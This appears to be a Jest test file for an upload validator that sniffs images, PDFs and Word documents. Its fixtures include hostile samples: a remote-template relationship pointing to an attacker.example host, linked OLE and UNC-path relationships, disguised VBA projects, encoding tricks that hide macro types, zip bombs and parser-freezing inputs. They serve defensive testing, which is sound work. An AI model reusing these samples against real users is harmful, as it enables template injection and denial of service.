import sharp, { type Sharp } from 'sharp';
import { buildZip, ZipFixtureEntry } from '../../test/support/zip-fixture';
import { sniffFileType, XML_LIMITS } from './file-type';

const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const DOCM_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

function contentTypes(mainType: string, extra = ''): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/word/document.xml" ContentType="${mainType}"/>` +
    extra +
    '</Types>'
  );
}

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function relationships(...lines: string[]): string {
  return (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    lines.join('') +
    '</Relationships>'
  );
}

/** What Word writes for a document based on a template fetched from a server when it opens. */
const REMOTE_TEMPLATE = `<Relationship Id="rId1" Type="${RELATIONSHIPS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`;
const HYPERLINK = `<Relationship Id="rId9" Type="${RELATIONSHIPS}/hyperlink" Target="https://minjust.gov.kg/" TargetMode="External"/>`;
const LOCAL_IMAGE = `<Relationship Id="rId2" Type="${RELATIONSHIPS}/image" Target="media/image1.png"/>`;

function wordPackage(types: string, extraEntries: ZipFixtureEntry[] = [], method: 0 | 8 = 8): Buffer {
  return buildZip([
    { name: '[Content_Types].xml', content: types, method },
    {
      name: '_rels/.rels',
      content:
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
      method,
    },
    {
      name: 'word/document.xml',
      content:
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
        '<w:body><w:p><w:r><w:t>Practice</w:t></w:r></w:p></w:body></w:document>',
      method,
    },
    ...extraEntries,
  ]);
}

const DOCX_TYPE = {
  kind: 'document',
  mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  extension: 'docx',
};

function solidImage(): Sharp {
  return sharp({ create: { width: 16, height: 16, channels: 3, background: '#2a7' } });
}

describe('sniffFileType', () => {
  describe('images', () => {
    it('recognises a JPEG', async () => {
      const jpeg = await solidImage().jpeg().toBuffer();
      expect(sniffFileType(jpeg)).toEqual({ kind: 'image', mime: 'image/jpeg', extension: 'jpg' });
    });

    it('recognises a PNG', async () => {
      const png = await solidImage().png().toBuffer();
      expect(sniffFileType(png)).toEqual({ kind: 'image', mime: 'image/png', extension: 'png' });
    });

    it('recognises a WebP', async () => {
      const webp = await solidImage().webp().toBuffer();
      expect(sniffFileType(webp)).toEqual({ kind: 'image', mime: 'image/webp', extension: 'webp' });
    });

    it('still calls a truncated JPEG a JPEG, leaving the decode failure to image processing', async () => {
      const jpeg = await solidImage().jpeg().toBuffer();
      expect(sniffFileType(jpeg.subarray(0, 20))).toMatchObject({ mime: 'image/jpeg' });
    });

    it('refuses a PNG signature not followed by the IHDR chunk', () => {
      const fake = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('0000000dJUNK')]);
      expect(sniffFileType(fake)).toBeUndefined();
    });

    it('refuses a RIFF file that is not WebP', () => {
      expect(sniffFileType(Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'))).toBeUndefined();
    });
  });

  describe('PDF', () => {
    it('recognises a PDF by its header', () => {
      const pdf = Buffer.from(
        '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
      );
      expect(sniffFileType(pdf)).toEqual({ kind: 'document', mime: 'application/pdf', extension: 'pdf' });
    });

    it('refuses a PDF header that does not open the file', () => {
      expect(sniffFileType(Buffer.from('<html>%PDF-1.4'))).toBeUndefined();
    });
  });

  describe('DOCX', () => {
    it('recognises a Word document with deflated entries', () => {
      expect(sniffFileType(wordPackage(contentTypes(DOCX_MAIN)))).toEqual(DOCX_TYPE);
    });

    it('recognises a Word document with stored entries', () => {
      expect(sniffFileType(wordPackage(contentTypes(DOCX_MAIN), [], 0))).toEqual(DOCX_TYPE);
    });

    it('refuses a macro-enabled document (DOCM) with a distinct result', () => {
      const docm = wordPackage(
        contentTypes(
          DOCM_MAIN,
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        [{ name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) }],
      );
      expect(sniffFileType(docm)).toEqual({ refused: 'macro' });
    });

    it('refuses a document that calls itself DOCX but carries a VBA project', () => {
      const disguised = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
      ]);
      expect(sniffFileType(disguised)).toEqual({ refused: 'macro' });
    });

    it('sees through XML character references hiding the macro-enabled type', () => {
      const encoded = DOCM_MAIN.replace('macroEnabled', 'macro&#x45;nabled');
      const types = contentTypes(DOCX_MAIN).replace(
        '</Types>',
        `<Override PartName="/word/other.xml" ContentType="${encoded}"/></Types>`,
      );
      expect(sniffFileType(wordPackage(types))).toEqual({ refused: 'macro' });
    });

    it('ignores a Word content type that only appears in an XML comment', () => {
      const types = contentTypes('application/xml').replace(
        '</Types>',
        `<!-- <Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/> --></Types>`,
      );
      expect(sniffFileType(wordPackage(types))).toBeUndefined();
    });

    it('refuses a package whose declared main part is missing', () => {
      const types = contentTypes(DOCX_MAIN).replace('/word/document.xml', '/word/missing.xml');
      expect(sniffFileType(wordPackage(types))).toBeUndefined();
    });

    it('refuses another Office format (an XLSX)', () => {
      const xlsx = buildZip([
        {
          name: '[Content_Types].xml',
          content:
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ' +
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        },
        { name: 'xl/workbook.xml', content: '<workbook/>' },
      ]);
      expect(sniffFileType(xlsx)).toBeUndefined();
    });

    it('refuses a plain ZIP', () => {
      const zip = buildZip([{ name: 'readme.txt', content: 'hello' }]);
      expect(sniffFileType(zip)).toBeUndefined();
    });

    it('refuses a package with two [Content_Types].xml entries', () => {
      const zip = wordPackage(contentTypes(DOCX_MAIN), [
        { name: '[Content_Types].xml', content: '<Types/>' },
      ]);
      expect(sniffFileType(zip)).toBeUndefined();
    });

    it('refuses a [Content_Types].xml that inflates past 2 MiB (zip bomb)', () => {
      const padding = `<!-- ${' '.repeat(2 * 1024 * 1024)} -->`;
      const bomb = wordPackage(contentTypes(DOCX_MAIN, padding));
      expect(bomb.length).toBeLessThan(64 * 1024);
      expect(sniffFileType(bomb)).toBeUndefined();
    });

    it('stops inflating at the cap even when the recorded size is a lie', () => {
      const padding = `<!-- ${' '.repeat(2 * 1024 * 1024)} -->`;
      const bomb = buildZip([
        { name: '[Content_Types].xml', content: contentTypes(DOCX_MAIN, padding), declaredSize: 1000 },
        { name: 'word/document.xml', content: '<w:document/>' },
      ]);
      expect(sniffFileType(bomb)).toBeUndefined();
    });

    it('refuses a [Content_Types].xml over 64 KiB, whatever it declares', () => {
      const padding = `<!-- ${' '.repeat(XML_LIMITS.contentTypesBytes)} -->`;
      expect(XML_LIMITS.contentTypesBytes).toBe(64 * 1024);
      expect(sniffFileType(wordPackage(contentTypes(DOCX_MAIN, padding)))).toBeUndefined();
      expect(sniffFileType(wordPackage(contentTypes(DOCX_MAIN, '<!-- a short comment -->')))).toEqual(
        DOCX_TYPE,
      );
    });

    it("answers at once for the issue's 1.2 KB upload: `<!--` repeated 262,143 times", () => {
      const freezer = buildZip([
        { name: '[Content_Types].xml', content: '<!--'.repeat(262_143) },
        { name: 'word/document.xml', content: '<w:document/>' },
      ]);
      expect(freezer.length).toBeLessThan(1400);
      const started = performance.now();
      expect(sniffFileType(freezer)).toBeUndefined();
      expect(performance.now() - started).toBeLessThan(100);
    });

    it.each([
      ['unterminated comments', '<!--'],
      ['unterminated start tags', '<Default'],
      ['attributes without values', '<Default a= '],
    ])('reads a 64 KiB [Content_Types].xml of %s in linear time', (_label, unit) => {
      const xml = unit.repeat(Math.floor(XML_LIMITS.contentTypesBytes / unit.length) - 1);
      const started = performance.now();
      expect(sniffFileType(wordPackage(xml))).toBeUndefined();
      expect(performance.now() - started).toBeLessThan(100);
    });

    it('refuses a [Content_Types].xml with a DOCTYPE (forbidden in Office Open XML)', () => {
      const types = contentTypes(DOCX_MAIN).replace('<Types', '<!DOCTYPE Types [<!ENTITY x "y">]><Types');
      expect(sniffFileType(wordPackage(types))).toBeUndefined();
    });

    it('refuses an entry whose CRC-32 does not match', () => {
      const corrupt = buildZip([
        { name: '[Content_Types].xml', content: contentTypes(DOCX_MAIN), declaredCrc: 0x12345678 },
        { name: 'word/document.xml', content: '<w:document/>' },
      ]);
      expect(sniffFileType(corrupt)).toBeUndefined();
    });

    it('refuses a truncated archive', () => {
      const docx = wordPackage(contentTypes(DOCX_MAIN));
      expect(sniffFileType(docx.subarray(0, docx.length - 30))).toBeUndefined();
    });
  });

  describe('DOCX with risky content', () => {
    it('accepts external hyperlinks and internal pictures (what ordinary reports carry)', () => {
      const report = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/_rels/document.xml.rels', content: relationships(HYPERLINK, LOCAL_IMAGE) },
      ]);
      expect(sniffFileType(report)).toEqual(DOCX_TYPE);
    });

    it('refuses a remote template (settings.xml.rels, TargetMode="External")', () => {
      const templated = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/_rels/document.xml.rels', content: relationships(HYPERLINK) },
        { name: 'word/_rels/settings.xml.rels', content: relationships(REMOTE_TEMPLATE) },
      ]);
      expect(sniffFileType(templated)).toEqual({ refused: 'external-content' });
    });

    it.each([
      [
        'a linked picture',
        `<Relationship Id="rId3" Type="${RELATIONSHIPS}/image" Target="\\\\host\\share\\a.png" TargetMode="External"/>`,
      ],
      [
        'a linked OLE object',
        `<Relationship Id="rId4" Type="${RELATIONSHIPS}/oleObject" Target="https://x.example/o.bin" TargetMode="External"/>`,
      ],
      ['an odd spelling of the mode', REMOTE_TEMPLATE.replace('"External"', '" external "')],
      [
        'a namespace prefix and single quotes',
        `<r:Relationship Id='rId5' Type='${RELATIONSHIPS}/frame' Target='https://x.example/' TargetMode='External'/>`,
      ],
      ['a mode written with a character reference', REMOTE_TEMPLATE.replace('"External"', '"Ext&#x65;rnal"')],
    ])('refuses %s', (_label, relationship) => {
      const document = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/_rels/header1.xml.rels', content: relationships(relationship) },
      ]);
      expect(sniffFileType(document)).toEqual({ refused: 'external-content' });
    });

    it('does not take an external relationship that is only in a comment', () => {
      const document = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/_rels/settings.xml.rels', content: relationships(`<!-- ${REMOTE_TEMPLATE} -->`) },
      ]);
      expect(sniffFileType(document)).toEqual(DOCX_TYPE);
    });

    it('refuses as unknown a relationship part it cannot read or that exceeds the caps', () => {
      const malformed = wordPackage(contentTypes(DOCX_MAIN), [
        { name: 'word/_rels/settings.xml.rels', content: '<Relationships><Relationship Id="rId1' },
      ]);
      expect(sniffFileType(malformed)).toBeUndefined();
      const oversized = wordPackage(contentTypes(DOCX_MAIN), [
        {
          name: 'word/_rels/document.xml.rels',
          content: relationships(LOCAL_IMAGE, `<!-- ${' '.repeat(XML_LIMITS.relationshipBytes)} -->`),
        },
      ]);
      expect(sniffFileType(oversized)).toBeUndefined();
      const tooMany = wordPackage(
        contentTypes(DOCX_MAIN),
        Array.from({ length: XML_LIMITS.relationshipParts + 1 }, (_, index) => ({
          name: `word/_rels/header${index}.xml.rels`,
          content: relationships(),
        })),
      );
      expect(sniffFileType(tooMany)).toBeUndefined();
    });

    it.each([
      ['word/embeddings/oleObject1.bin', { refused: 'embedded-object' }],
      ['word/embeddings/OLEOBJECT12.BIN', { refused: 'embedded-object' }],
      ['activeX/activeX1.xml', { refused: 'macro' }],
      ['word/activeX/activeX1.bin', { refused: 'macro' }],
      ['vbaProject.bin', { refused: 'macro' }],
    ])('refuses a document carrying %s', (name, refusal) => {
      const document = wordPackage(contentTypes(DOCX_MAIN), [
        { name, content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
      ]);
      expect(sniffFileType(document)).toEqual(refusal);
    });

    it('refuses a document that declares an OLE object type, even with the part renamed', () => {
      const types = contentTypes(
        DOCX_MAIN,
        '<Override PartName="/word/embeddings/data.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      );
      const document = wordPackage(types, [{ name: 'word/embeddings/data.dat', content: 'x' }]);
      expect(sniffFileType(document)).toEqual({ refused: 'embedded-object' });
    });
  });

  describe('anything else', () => {
    it('refuses a Windows executable whatever its name', () => {
      const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0')]);
      expect(sniffFileType(exe)).toBeUndefined();
    });

    it('refuses an empty buffer', () => {
      expect(sniffFileType(Buffer.alloc(0))).toBeUndefined();
    });

    it('refuses text and GIF', () => {
      expect(sniffFileType(Buffer.from('hello, world'))).toBeUndefined();
      expect(sniffFileType(Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'))).toBeUndefined();
    });
  });
});
